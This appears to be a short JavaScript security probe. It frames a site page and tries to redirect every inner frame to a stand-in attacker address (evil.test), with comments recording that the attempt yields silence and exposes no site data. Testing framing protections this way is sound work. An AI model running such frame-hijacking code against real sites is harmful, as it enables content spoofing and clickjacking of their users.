// Frames a chapter and takes its sandbox’s place by name and index.
// prints: silence
// known: whoever frames the page may navigate frames in it where the host sends no frame-ancestors; nothing of the site is in them, and what is put there gets no answer.

const frame = document.createElement('iframe');
frame.src = 'SITEwaiting/';
document.body.append(frame);
await new Promise((r) => frame.addEventListener('load', r));
await new Promise((r) => setTimeout(r, 300));
let n = 0;
for (let i = 0; i < frame.contentWindow.length; i++) { n++; try { frame.contentWindow[i].location = 'http://evil.test/x.html?took'; } catch {} }
return 'silence';
